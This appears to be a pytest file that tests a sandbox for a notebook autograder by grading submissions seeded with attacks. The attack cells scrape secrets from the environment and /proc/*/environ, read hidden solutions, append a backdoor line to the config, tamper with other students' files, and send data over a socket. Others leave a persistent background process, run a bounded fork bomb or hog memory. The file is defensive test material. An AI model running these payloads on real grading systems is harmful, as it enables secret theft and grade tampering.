"""Autograde in a sandbox (chutes_teacher.sandbox), tested by attack.

A course folder with set 1 (tests/support.make_course, the repository's nbgrader_config.py) gets
submissions whose extra cells attack: read the worked solutions in ``source/``, import or read the
answer checks, find the teacher's secrets (a fake hub token and a fake secret planted in the
grader's environment) in the kernel's environment or any ``/proc/*/environ``, open the gradebook
for writing, append to ``nbgrader_config.py``, plant files in another student's submission,
autograded notebook and feedback, copy the solutions to a folder outside, connect to a TCP server
the test runs on 127.0.0.1, leave a process that touches a file outside every 0.2 s, fork 200
processes (then end them: a bomb that keeps them leaves its own kernel unable to start a thread,
and nbgrader reports that notebook as failed), allocate 2 GiB, and run more slow cells than the notebook's time limit allows. Each
attack is seen to **succeed** in a course that opts out of the sandbox
(``c.SandboxedExecute.allow_unsandboxed = True`` with no bwrap), so each check can fail; in the
sandboxed course, graded by the batch command ``python -m chutes_teacher.autograde --jobs 2``,
each fails, the attacker's own right answers still earn their points, and the honest submission
earns every point. Without bwrap and without the opt-out, autograde refuses, naming the setting.

The two nbgrader rounds take a few minutes on two cores (``slow``), side by side where the grader
is root (``_rounds_at_once``); the tests that drive the executor directly take seconds.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from chutes_teacher.sandbox import (
    OPT_OUT,
    Limits,
    Sandbox,
    SandboxedExecute,
    SandboxUnavailable,
    answer_module,
    sandbox_problem,
    student_library,
)
from tests.shared_course import released_course
from tests.support import NBGRADER_BIN, ROOT, nbgrader, released_name

SOLUTION = ROOT / "solutions" / "01_solutions_waiting_for_heads.ipynb"
SET = Path(released_name(SOLUTION)).stem
FAKE_TOKEN = "fake-hub-token-4711"
FAKE_SECRET = "fake-teacher-secret-0815"
PLANTED = {"JUPYTERHUB_API_TOKEN": FAKE_TOKEN, "TEACHER_SECRET": FAKE_SECRET}
OTHER = "aaa_other"             # the student whose files the thief tries to overwrite
NOTEBOOK_LIMIT = 60             # seconds per notebook in both test courses' sandboxed runs
SLOW_CELLS, SLOW_SECONDS = 6, 12
MISSING_BWRAP = "/nonexistent/bwrap"
THIEF_READS = ("read_source", "import_checks", "read_checks", "read_repo_checks", "secrets")
THIEF_WRITES = ("write_gradebook", "write_config", "write_other", "copy_out", "network")

# Limits of the test courses: small enough to meet, large enough for set 1 on a loaded machine.
CONFIG = f"""
c.SandboxedExecute.notebook_timeout = {NOTEBOOK_LIMIT}
c.SandboxedExecute.memory_limit = 1024 ** 3
c.SandboxedExecute.process_limit = 64
"""
UNSANDBOXED = f"""
c.SandboxedExecute.bwrap = {MISSING_BWRAP!r}
c.SandboxedExecute.allow_unsandboxed = True
c.SandboxedExecute.notebook_timeout = 0
"""

THIEF = '''# an attack: what a submission must not be able to do
import glob, os, pathlib, shutil, socket
import chutes_edu
COURSE, LEAK, PORT = pathlib.Path({course!r}), pathlib.Path({leak!r}), {port}
SET, OTHER = {set!r}, {other!r}
results = {{}}
def attempt(name, action):
    try:
        results[name] = "DONE " + str(action())[:60]
    except BaseException as err:
        results[name] = "FAILED " + type(err).__name__
def secrets():
    found = [k for k, v in os.environ.items() if "fake-" in v]
    for path in glob.glob("/proc/*/environ"):
        try:
            data = open(path, "rb").read()
        except OSError:
            continue
        found += [path for mark in (b{token!r}, b{secret!r}) if mark in data]
    if not found:
        raise LookupError("no secret found")
    return found
def plant():
    for folder in ("submitted", "autograded", "feedback"):
        target = COURSE / folder / OTHER / SET
        target.mkdir(parents=True, exist_ok=True)
        (target / "planted.txt").write_text("rewritten")
    return "planted"
def phone_home():
    with socket.create_connection(("127.0.0.1", PORT), timeout=5) as conn:
        conn.sendall(b"stolen")
    return "sent"
attempt("read_source", lambda: len((COURSE / "source" / SET / (SET + ".ipynb")).read_text()))
attempt("import_checks", lambda: __import__("chutes_edu.checks.lesson01", fromlist=["x"]))
attempt("read_checks", lambda: len((pathlib.Path(chutes_edu.__file__).parent / "checks"
                                    / "lesson01.py").read_text()))
attempt("read_repo_checks", lambda: len(pathlib.Path({repo_checks!r}).read_text()))
attempt("secrets", secrets)
attempt("write_gradebook", lambda: open(COURSE / "gradebook.db", "r+b").close())
attempt("write_config", lambda: open(COURSE / "nbgrader_config.py", "a").write("# backdoor\\n"))
attempt("write_other", plant)
attempt("copy_out", lambda: shutil.copytree(COURSE / "source", LEAK / "solutions"))
attempt("network", phone_home)
for name, result in results.items():
    print(f"ATTACK {{name}}: {{result}}")
'''

LINGERER = '''# an attack: a process that outlives autograde and keeps touching a file outside
import subprocess, sys
code = """import pathlib, time
while True:
    try:
        pathlib.Path({touch!r}).write_text(str(time.time()))
    except OSError:
        pass
    time.sleep(0.2)
# {marker}"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("ATTACK lingerer: started")
'''

BOMB = '''# an attack: a (bounded) fork bomb, then a memory hog
import os, signal, sys
children = []
try:
    for _ in range(200):
        pid = os.fork()
        if pid == 0:
            try:
                os.execv(sys.executable, [sys.executable, "-c",
                                          "import time; time.sleep(120)  # {marker}"])
            finally:
                os._exit(1)
        children.append(pid)
    print("ATTACK fork_bomb: DONE", len(children))
except OSError as err:
    print("ATTACK fork_bomb: FAILED", len(children), type(err).__name__)
for pid in children:         # so that the rest of the notebook can start threads again
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
'''

HOG = '''try:
    hog = b"x" * (2 * 1024 ** 3)
    print("ATTACK memory_hog: DONE", len(hog))
    del hog
except MemoryError:
    print("ATTACK memory_hog: FAILED MemoryError")
'''


def _marked(marker: str) -> list[int]:
    """The processes on this machine whose command line holds ``marker``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def _kill_marked(marker: str) -> None:
    for pid in _marked(marker):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


class _Listener:
    """A TCP server on 127.0.0.1 that counts the connections it gets."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                try:
                    self.received.append(conn.recv(100))
                except OSError:
                    self.received.append(b"")


@dataclass
class Round:
    """A course folder after an autograde round, and what the test watched from outside."""

    course: Path
    leak: Path
    touch: Path
    marker: str
    listener: _Listener
    config: str
    log: str = ""
    alive_after: list[int] = field(default_factory=list)


def _with_cells(nb: nbformat.NotebookNode, *sources: str) -> nbformat.NotebookNode:
    """The notebook with ``sources`` as new code cells after its first code cell."""
    nb = nbformat.from_dict(nb)
    first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    for offset, source in enumerate(sources, start=1):
        nb.cells.insert(first + offset, nbformat.v4.new_code_cell(source))
    return nb


def _submit(course: Path, student: str, nb: nbformat.NotebookNode) -> None:
    folder = course / "submitted" / student / SET
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{SET}.ipynb")


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Set 1 generated (``nbgrader generate_assignment``, once per run: tests/shared_course.py):
    every course of this module is a copy of it with its own settings added to
    ``nbgrader_config.py`` (``_course``)."""
    if not (NBGRADER_BIN / "nbgrader").exists():
        pytest.skip("nbgrader is not installed (pip install -e '.[teacher]')")
    return released_course(tmp_path_factory, tmp_path_factory.mktemp("generated") / "course",
                           SET, [SOLUTION])


def _course(generated: Path, target: Path, config: str) -> Path:
    """A copy of the generated course with ``config`` added: the sandbox's settings are read by
    autograde only, so the copy is what ``make_course(target, ..., config)`` would make."""
    shutil.copytree(generated, target)
    with (target / "nbgrader_config.py").open("a", encoding="utf-8") as settings:
        settings.write(config)
    return target


def _build(generated: Path, tmp: Path, name: str, config: str,
           students: tuple[str, ...]) -> Round:
    course = _course(generated, tmp / name, config)
    leak, touch = tmp / f"{name}-leak", tmp / f"{name}-touched"
    leak.mkdir()
    leak.chmod(0o777)
    marker = f"chutes-sandbox-test-{tmp.name}-{os.getpid()}"
    listener = _Listener()
    solution = nbformat.read(SOLUTION, as_version=4)
    attacks = {
        "thief": [THIEF.format(course=str(course), leak=str(leak), port=listener.port, set=SET,
                               other=OTHER, token=FAKE_TOKEN, secret=FAKE_SECRET,
                               repo_checks=str(ROOT / "chutes_edu" / "checks" / "lesson01.py"))],
        "lingerer": [LINGERER.format(touch=str(touch), marker=marker)],
        "bomb": [BOMB.format(marker=marker), HOG],
        "slow": [f"import time\ntime.sleep({SLOW_SECONDS})"] * SLOW_CELLS,
    }
    for student in students:
        if student == "honest":
            _submit(course, student, solution)
        elif student == "untouched":
            _submit(course, student, nbformat.read(course / "release" / SET / f"{SET}.ipynb",
                                                   as_version=4))
        else:
            _submit(course, student, _with_cells(solution, *attacks[student]))
    return Round(course, leak, touch, marker, listener,
                 (course / "nbgrader_config.py").read_text())


def _rounds_at_once() -> bool:
    """Whether the two rounds may grade side by side: where the grader is root (CI). Elsewhere a
    sandbox that cannot make cgroups holds processes with ``RLIMIT_NPROC``, which counts every
    process of the user: the unsandboxed fork bomb would take the sandboxed kernels' room, so the
    rounds go one after the other there."""
    return os.geteuid() == 0


@pytest.fixture(scope="module")
def rounds(tmp_path_factory: pytest.TempPathFactory,
           generated: Path) -> Iterator[tuple[Round, Round]]:
    """Both rounds: the sandboxed one (six submissions graded by the batch command, two at a time,
    each in a sandbox) and the unsandboxed one, graded at the same time where that is safe
    (``_rounds_at_once``): the slow cells of each (a minute or more of sleep) then overlap instead
    of adding up. Each round's course, listener, marker and touched file are its own, so neither
    sees the other's attacks."""
    if sandbox_problem("bwrap"):
        pytest.skip(f"no sandbox here: {sandbox_problem('bwrap')}")
    runs: list[Round] = []
    graders: list[subprocess.Popen[bytes]] = []
    try:
        unsandboxed = _build(generated, tmp_path_factory.mktemp("unsandboxed"), "course",
                             UNSANDBOXED, ("thief", "lingerer", "bomb", "slow"))
        runs.append(unsandboxed)
        outside = _grading([str(NBGRADER_BIN / "nbgrader"), "autograde", SET, "--create"],
                           unsandboxed)
        graders.append(outside)
        at_once = _rounds_at_once()
        if not at_once:
            _finish(outside, unsandboxed)
        sandboxed = _build(generated, tmp_path_factory.mktemp("sandboxed"), "course", CONFIG,
                           ("honest", "untouched", "thief", "lingerer", "bomb", "slow"))
        runs.append(sandboxed)
        inside = _grading([sys.executable, "-m", "chutes_teacher.autograde", SET, "--jobs", "2"],
                          sandboxed)
        graders.append(inside)
        _finish(inside, sandboxed)
        if at_once:
            _finish(outside, unsandboxed)
        time.sleep(1)               # a lingering process would touch its file again meanwhile
        yield sandboxed, unsandboxed
    finally:
        for grader in graders:
            grader.kill()
            grader.wait()
        for run in runs:
            _kill_marked(run.marker)
            run.listener.sock.close()


def _grading(command: list[str], run: Round) -> subprocess.Popen[bytes]:
    """A grading process started in the round's course, the planted secrets in its environment,
    its output into a file beside the course (a pipe nobody reads while the other round runs
    could fill and stall it)."""
    env = {**os.environ, **PLANTED, "OPENBLAS_NUM_THREADS": "1",
           "PATH": f"{NBGRADER_BIN}{os.pathsep}{os.environ['PATH']}"}     # alembic
    with _log_file(run).open("wb") as log:
        return subprocess.Popen(command, cwd=run.course, env=env, stdout=log,
                                stderr=subprocess.STDOUT)


def _log_file(run: Round) -> Path:
    return run.course.parent / "grading-log.txt"


def _finish(process: subprocess.Popen[bytes], run: Round) -> None:
    """Wait for the round's grading process, keep its output and note which of the round's
    processes are still alive."""
    try:
        process.wait(timeout=1800)            # a hang guard, not a time budget
    finally:
        process.kill()
    run.log = _log_file(run).read_text(encoding="utf-8", errors="replace")
    run.alive_after = _marked(run.marker)


@pytest.fixture(scope="module")
def sandboxed(rounds: tuple[Round, Round]) -> Round:
    """Six submissions graded by the batch command, two at a time, each in a sandbox."""
    return rounds[0]


@pytest.fixture(scope="module")
def unsandboxed(rounds: tuple[Round, Round]) -> Round:
    """The attacks in a course that opts out of the sandbox: each must succeed there."""
    return rounds[1]


def _attacks(run: Round, student: str) -> dict[str, str]:
    """What each attack of a student's autograded notebook printed: ``name -> DONE ...``."""
    nb = nbformat.read(run.course / "autograded" / student / SET / f"{SET}.ipynb", as_version=4)
    text = "".join(out.get("text", "") for cell in nb.cells for out in cell.get("outputs", []))
    return dict(re.findall(r"^ATTACK (\w+): (.*)$", text, flags=re.M))


def _errors(run: Round, student: str) -> list[str]:
    nb = nbformat.read(run.course / "autograded" / student / SET / f"{SET}.ipynb", as_version=4)
    return [f"{out['ename']}: {out['evalue']}" for cell in nb.cells
            for out in cell.get("outputs", []) if out.get("output_type") == "error"]


def _score(run: Round, student: str) -> tuple[float, float]:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{run.course / 'gradebook.db'}") as gb:
        sub = gb.find_submission(SET, student)
        return float(sub.code_score), float(sub.max_code_score)


def _planted(run: Round) -> list[Path]:
    return sorted(run.course.rglob("planted.txt"))


# ---------------------------------------------------------------- the sandboxed round
@pytest.mark.slow
def test_the_batch_command_grades_every_submission_and_says_so(sandboxed: Round) -> None:
    assert "6 graded, 0 failed" in sandboxed.log, sandboxed.log[-4000:]
    for student in ("honest", "untouched", "thief", "lingerer", "bomb", "slow"):
        assert re.search(rf"^{student}\s+graded", sandboxed.log, flags=re.M), sandboxed.log
    assert "database is locked" not in sandboxed.log


@pytest.mark.slow
def test_an_honest_submission_earns_every_point_and_the_release_none(sandboxed: Round) -> None:
    score, maximum = _score(sandboxed, "honest")
    assert maximum >= 7 and score == maximum, _errors(sandboxed, "honest")
    assert _score(sandboxed, "untouched")[0] == 0


@pytest.mark.slow
def test_reading_attacks_fail_in_the_sandbox(sandboxed: Round, unsandboxed: Round) -> None:
    """The worked solutions, the answer checks (imported or read) and the planted secrets."""
    outside = _attacks(unsandboxed, "thief")
    inside = _attacks(sandboxed, "thief")
    for name in THIEF_READS:
        assert outside[name].startswith("DONE"), (name, outside)      # the attack is real
        assert inside[name].startswith("FAILED"), (name, inside)
    # the thief's own right answers still count
    score, maximum = _score(sandboxed, "thief")
    assert score == maximum, _errors(sandboxed, "thief")


@pytest.mark.slow
def test_writing_and_network_attacks_fail_in_the_sandbox(sandboxed: Round,
                                                         unsandboxed: Round) -> None:
    """The gradebook, nbgrader_config.py, another student's files, a copy out, a connection."""
    outside = _attacks(unsandboxed, "thief")
    assert all(outside[name].startswith("DONE") for name in THIEF_WRITES), outside
    assert "# backdoor" in (unsandboxed.course / "nbgrader_config.py").read_text()
    assert len(_planted(unsandboxed)) == 3 and any(unsandboxed.leak.iterdir())
    assert unsandboxed.listener.received == [b"stolen"]

    inside = _attacks(sandboxed, "thief")
    # write_other may "succeed" inside: this test's course is under /tmp, and the sandbox's /tmp
    # is its own (thrown away); the course on the host is what counts
    assert all(inside[name].startswith("FAILED") for name in THIEF_WRITES
               if name != "write_other"), inside
    assert (sandboxed.course / "nbgrader_config.py").read_text() == sandboxed.config
    assert _planted(sandboxed) == [] and not any(sandboxed.leak.iterdir())
    assert sandboxed.listener.received == []


@pytest.mark.slow
def test_nothing_a_submission_starts_outlives_its_sandbox(sandboxed: Round,
                                                          unsandboxed: Round) -> None:
    assert _attacks(unsandboxed, "lingerer") == {"lingerer": "started"}
    assert unsandboxed.alive_after, "the lingering process should outlive unsandboxed autograde"
    assert unsandboxed.touch.exists()
    before = unsandboxed.touch.read_text()
    time.sleep(1)
    assert unsandboxed.touch.read_text() != before             # still touching it

    assert _attacks(sandboxed, "lingerer") == {"lingerer": "started"}
    assert sandboxed.alive_after == [] and _marked(sandboxed.marker) == []
    assert not sandboxed.touch.exists()


@pytest.mark.slow
def test_a_fork_bomb_and_a_memory_hog_are_held(sandboxed: Round, unsandboxed: Round) -> None:
    outside = _attacks(unsandboxed, "bomb")
    assert outside["fork_bomb"] == "DONE 200" and outside["memory_hog"].startswith("DONE")
    inside = _attacks(sandboxed, "bomb")
    stopped = re.fullmatch(r"FAILED (\d+) BlockingIOError", inside["fork_bomb"])
    assert stopped and int(stopped.group(1)) < 64, inside
    assert inside["memory_hog"] == "FAILED MemoryError"
    # the rest of the notebook graded as usual, and the submissions after it (the summary)
    score, maximum = _score(sandboxed, "bomb")
    assert score == maximum, _errors(sandboxed, "bomb")


@pytest.mark.slow
def test_slow_cells_stop_at_the_notebooks_time_limit(sandboxed: Round,
                                                     unsandboxed: Round) -> None:
    assert not any("NotebookTimeLimit" in e for e in _errors(unsandboxed, "slow"))
    errors = _errors(sandboxed, "slow")
    skipped = [e for e in errors if e.startswith("NotebookTimeLimit")]
    assert skipped and f"its {NOTEBOOK_LIMIT} s" in skipped[0], errors
    score, maximum = _score(sandboxed, "slow")
    assert score < maximum            # the graded cells after the limit were not run


# ---------------------------------------------------------------- failing closed
@pytest.mark.slow
def test_without_a_sandbox_autograde_refuses_and_names_the_setting(generated: Path,
                                                                   tmp_path: Path) -> None:
    course = _course(generated, tmp_path / "course",
                     f"\nc.SandboxedExecute.bwrap = {MISSING_BWRAP!r}\n")
    _submit(course, "honest", nbformat.read(SOLUTION, as_version=4))
    done = nbgrader("autograde", SET, "--create", cwd=course)
    assert done.returncode != 0
    assert "refuses to run the submission unconfined" in done.stderr
    assert "c.SandboxedExecute.allow_unsandboxed = True" in done.stderr
    assert not (course / "autograded" / "honest" / SET / f"{SET}.ipynb").exists()

    batch = subprocess.run([sys.executable, "-m", "chutes_teacher.autograde", SET],
                           cwd=course, capture_output=True, text=True, timeout=600, check=False)
    assert batch.returncode == 2 and OPT_OUT in batch.stderr, batch.stderr
    assert "Autograding" not in batch.stdout


def test_the_executor_refuses_without_bwrap_and_runs_unconfined_only_when_allowed(
        tmp_path: Path) -> None:
    assert "not installed" in str(sandbox_problem(MISSING_BWRAP))
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(
        "import os; print(os.environ.get('TEACHER_SECRET'))")])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    resources = {"metadata": {"path": str(tmp_path)}, "nbgrader": {"student": "ada"}}
    with pytest.raises(SandboxUnavailable, match=re.escape(OPT_OUT)):
        SandboxedExecute(bwrap=MISSING_BWRAP).preprocess(nbformat.from_dict(nb), resources)
    os.environ["TEACHER_SECRET"] = FAKE_SECRET
    try:
        ran, _ = SandboxedExecute(bwrap=MISSING_BWRAP, allow_unsandboxed=True).preprocess(
            nbformat.from_dict(nb), resources)
    finally:
        del os.environ["TEACHER_SECRET"]
    assert ran.cells[0].outputs[0]["text"].strip() == FAKE_SECRET     # unconfined: it sees all


# ---------------------------------------------------------------- the executor, directly
def test_the_student_library_has_no_answer_checks(tmp_path: Path) -> None:
    sys.path.insert(0, str(ROOT / "tools"))
    try:
        import student_copy
    finally:
        sys.path.remove(str(ROOT / "tools"))
    checks = sorted(p.name for p in (ROOT / "chutes_edu" / "checks").glob("*.py"))
    assert [n for n in checks if answer_module(n)] == [
        n for n in checks if student_copy.ANSWER_MODULE.match(f"chutes_edu/checks/{n}")]
    assert "lesson01.py" in checks
    copy = student_library(ROOT / "chutes_edu", tmp_path)
    assert not list(copy.rglob("lesson*.py")) and not list(copy.rglob("__pycache__"))
    assert (copy / "grading.py").exists() and (copy / "checks" / "__init__.py").exists()
    assert (copy / "checks" / "lesson01.py").exists() is False


def test_the_sandbox_dies_with_the_grader(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Kill the grading process outright: nothing its sandbox started survives it, and the next
    grader removes the sandbox's folder it left."""
    import chutes_teacher.sandbox as sandbox_module

    if sandbox_problem("bwrap"):
        pytest.skip(f"no sandbox here: {sandbox_problem('bwrap')}")
    marker = f"chutes-sandbox-orphan-{os.getpid()}"
    script = tmp_path / "grade.py"
    script.write_text(f"""
import nbformat
from chutes_teacher.sandbox import SandboxedExecute
cells = ["import subprocess, sys\\n"
         "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)  # {marker}'],"
         " start_new_session=True)",
         "import time; time.sleep(600)"]
nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells])
nb.metadata["kernelspec"] = {{"name": "python3", "display_name": "Python 3", "language": "python"}}
SandboxedExecute(timeout=900).preprocess(nb, {{"metadata": {{"path": {str(tmp_path)!r}}},
                                             "nbgrader": {{"student": "ada"}}}})
""")
    grader = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL)
    try:
        started = time.monotonic()              # hang guards, not time budgets
        while not _marked(marker) and grader.poll() is None and time.monotonic() - started < 300:
            time.sleep(0.2)
        assert _marked(marker), "the sandboxed kernel never started its process"
        grader.kill()
        grader.wait()
        killed = time.monotonic()
        while _marked(marker) and time.monotonic() - killed < 60:
            time.sleep(0.1)
        assert _marked(marker) == []
        # a grader killed outright cannot remove its sandbox's folder: the next grader does
        left = list(Path(tempfile.gettempdir()).glob(f"chutes-sandbox-*-{grader.pid}-*"))
        assert [(root / "work" / script.name).exists() for root in left] == [True]
        monkeypatch.setattr(sandbox_module, "_swept", False)
        Sandbox.create("bwrap", None, {"PATH": "/usr/bin"}, Limits(use_cgroups=False)).close()
        assert not left[0].exists()
    finally:
        grader.kill()
        _kill_marked(marker)
        for root in Path(tempfile.gettempdir()).glob(f"chutes-sandbox-*-{grader.pid}-*"):
            shutil.rmtree(root, ignore_errors=True)


def test_only_the_folders_of_graders_that_are_gone_are_swept(tmp_path: Path) -> None:
    """Attack the sweep: of the folders (and cgroups) named like a sandbox's, it removes only this
    user's real folders whose grader is gone, never a running grader's, one named in another PID
    namespace (where that pid means another process), another user's, or what a link named like
    one points to."""
    from chutes_teacher.sandbox import _pid_namespace, _sweep

    ns, gone = _pid_namespace(), _a_gone_pid()
    assert ns.isdigit()
    running = subprocess.Popen(["sleep", "60"])
    tmp, cgroups = tmp_path / "tmp", tmp_path / "cgroup"
    target = tmp_path / "precious"
    target.mkdir()
    (target / "work.ipynb").write_text("{}")
    (cgroups / "pids").mkdir(parents=True)
    dead = f"chutes-sandbox-{ns}-{gone}-"
    stale = [tmp / f"{dead}0a1b2c", cgroups / "memory" / f"{dead}3d4e", cgroups / "pids" / f"{dead}3d4e"]
    kept = [tmp / f"chutes-sandbox-{ns}-{os.getpid()}-5f6a", tmp / f"chutes-sandbox-{ns}-{running.pid}-7b8c",
            tmp / f"{dead}others", tmp / f"chutes-sandbox-{int(ns) + 1}-{gone}-9d0e",
            tmp / f"chutes-sandbox-x-{gone}-1f2a", tmp / f"chutes-sandbox-{gone}-3b4c",
            tmp / "chutes-sandbox-5d6e7f8a", tmp / f"{dead}notaname-"]
    try:
        for folder in stale + kept:
            folder.mkdir(parents=True)
            if folder.parent == tmp:
                (folder / "work").mkdir()
        os.chown(tmp / f"{dead}others", 65534, 65534)     # nobody's
        (tmp / f"{dead}link").symlink_to(target)
        (tmp / f"{dead}file").write_text("a file")
        removed = _sweep(tmp, cgroups)
        assert sorted(removed) == sorted(stale)
        assert [folder.name for folder in kept if not folder.is_dir()] == []
        assert (target / "work.ipynb").exists() and (tmp / f"{dead}link").is_symlink()
        assert (tmp / f"{dead}file").is_file()
        assert _sweep(tmp, tmp_path / "no-cgroups") == []
    finally:
        running.kill()
        running.wait()


def _a_gone_pid() -> int:
    """The pid of a process that has ended and been reaped."""
    done = subprocess.Popen(["true"])
    done.wait()
    return done.pid


def test_the_kernel_environment_is_the_allowlist() -> None:
    os.environ["TEACHER_SECRET"] = FAKE_SECRET
    try:
        env = SandboxedExecute().kernel_environment("ada")
    finally:
        del os.environ["TEACHER_SECRET"]
    assert env["CHUTES_STUDENT_ID"] == "ada"
    assert set(env) <= {"PATH", "LANG", "LC_ALL", "OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS",
                        "MKL_NUM_THREADS", "OPENBLAS_CORETYPE", "NBGRADER_EXECUTION",
                        "NBGRADER_VALIDATING", "CHUTES_COURSE_SECRET",
                        "CHUTES_STUDENT_ID"}
    assert FAKE_SECRET not in json.dumps(env)


def test_folders_under_tmp_stay_visible_below_the_sandboxs_own_tmp(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A course cloned under /tmp (its venv there too) still grades: the sandbox's small /tmp is
    mounted before the folders it must show, which would otherwise be hidden under it (bubblewrap
    mounts in order; every kernel failed to start when the clone lived in /tmp)."""
    import chutes_teacher.sandbox as sandbox_module

    venv = tmp_path / "clone" / ".venv"
    venv.mkdir(parents=True)
    assert str(venv).startswith("/tmp/")
    monkeypatch.setattr(sandbox_module, "_python_folders", lambda: [venv])
    sandbox = Sandbox.create("bwrap", None, {"PATH": "/usr/bin"}, Limits(use_cgroups=False))
    try:
        args = sandbox.command([sys.executable, "-c", "pass"])
    finally:
        sandbox.close()
    tmp = args.index("/tmp", args.index("--tmpfs"))
    binds = [args[i + 2] for i, arg in enumerate(args) if arg in ("--ro-bind", "--bind")]
    under_tmp = [i for i, arg in enumerate(args) if arg in ("--ro-bind", "--bind")
                 and args[i + 2].startswith("/tmp/")]
    assert under_tmp and all(i > tmp for i in under_tmp), (tmp, binds)
